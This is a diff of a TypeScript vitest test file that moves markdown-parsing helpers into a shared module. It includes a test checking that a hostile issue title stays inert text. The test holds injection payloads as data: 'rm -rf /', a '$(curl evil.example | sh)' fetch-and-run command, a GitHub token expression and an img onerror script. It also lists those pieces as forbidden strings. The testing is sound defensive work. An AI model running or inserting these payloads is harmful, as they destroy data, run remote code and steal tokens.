@@ -7,14 +7,12 @@
 import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { fromMarkdown } from 'mdast-util-from-markdown';
-import { gfmFromMarkdown } from 'mdast-util-gfm';
-import { gfm } from 'micromark-extension-gfm';
 import { afterEach, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { loadCatalogueOrThrow } from '../../src/catalogue/load.ts';
 import { trainSuggester } from '../../src/suggest/suggester.ts';
 import { catalogueFiles, copyCatalogue, FIXTURE, readIn, ROOT, runScript, startScript, writeIn } from '../helpers/catalogue.ts';
+import { gfmTree, nodesOf } from '../helpers/markdown-tree.ts';
 import { arxivAnswer, FAST_FAKES_ENV, fakeServices, type ArxivPaper, type FakeService, type Reply } from './enrich-fake-services.ts';
 
 const EVENTS = path.join(ROOT, 'tests/fixtures/intake');
@@ -368,20 +366,20 @@ describe('npm run intake: a hostile issue stays text', () => {
 		expect(runScript('validate', [], { CATALOGUE_DIR: dir }).code).toBe(0);
 
 		for (const [what, text] of [['comment', run.comment], ['pull request body', run.body!]] as const) {
-			const tree = fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
+			const tree = gfmTree(text);
 			// Only the intake's own HTML: the marker and the abstract's <details>.
-			for (const n of nodes(tree, 'html')) expect(['<!-- kv-cache-atlas-intake -->', '<details><summary>The abstract on arXiv (not written to the file)</summary>', '</details>'], what).toContain(n.value);
+			for (const n of nodesOf(tree, 'html')) expect(['<!-- kv-cache-atlas-intake -->', '<details><summary>The abstract on arXiv (not written to the file)</summary>', '</details>'], what).toContain(n.value);
 			// Links only to the paper's page, arXiv and the issue's own link: none from the issue's text.
 			expect(linksOf(text).filter((u) => !u.startsWith('https://octo-org.github.io/') && u !== 'https://openreview.net/forum?id=h0st1le'), what).toEqual([]);
 			// Outside code, none of the title's pieces: no mention, no HTML, no command.
-			const prose = nodes(tree, 'text').map((n) => n.value).join('\n');
+			const prose = nodesOf(tree, 'text').map((n) => n.value).join('\n');
 			for (const piece of ['@octo-org/maintainers', '<img', '$(curl', 'rm -rf', 'javascript:', '${{', '<script>']) expect(prose, `${what}: ${piece}`).not.toContain(piece);
-			const code = nodes(tree, 'inlineCode').map((n) => n.value).join('\n') + nodes(tree, 'code').map((n) => n.value).join('\n');
+			const code = nodesOf(tree, 'inlineCode').map((n) => n.value).join('\n') + nodesOf(tree, 'code').map((n) => n.value).join('\n');
 			for (const piece of ['`rm -rf /` $(curl evil.example | sh) ${{ github.token }} <img src=x onerror=alert(1)>', '@octo-org/maintainers']) expect(code, what).toContain(piece);
 			expect(text.length).toBeLessThan(65_536);
 		}
 		// The summary's own fence cannot close the file's: the YAML block ends where it should.
-		const fence = nodes(fromMarkdown(run.body!, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }), 'code').find((n) => n.lang === 'yaml')!;
+		const fence = nodesOf(gfmTree(run.body!), 'code').find((n) => n.lang === 'yaml')!;
 		expect(parse(fence.value)).toEqual(paper);
 
 		const title = run.title!;
@@ -414,27 +412,7 @@ describe('npm run intake: bad flags and unreadable events', () => {
 	});
 });
 
-type MdNode = { type: string; value?: string; url?: string; lang?: string | null; children?: MdNode[] };
-
-/** Every node of `type` in a markdown tree. */
-function nodes(tree: MdNode, type: string): Array<MdNode & { value: string }> {
-	const found: Array<MdNode & { value: string }> = [];
-	const walk = (n: MdNode) => {
-		if (n.type === type) found.push(n as MdNode & { value: string });
-		n.children?.forEach(walk);
-	};
-	walk(tree);
-	return found;
-}
-
 /** The destinations of every link of a markdown text (GFM autolinks included). */
 function linksOf(text: string): string[] {
-	const tree = fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as MdNode;
-	const found: string[] = [];
-	const walk = (n: MdNode) => {
-		if (n.type === 'link' || n.type === 'image' || n.type === 'definition') found.push(n.url ?? '');
-		n.children?.forEach(walk);
-	};
-	walk(tree);
-	return found;
+	return nodesOf(gfmTree(text), 'link', 'image', 'definition').map((n) => n.url);
 }
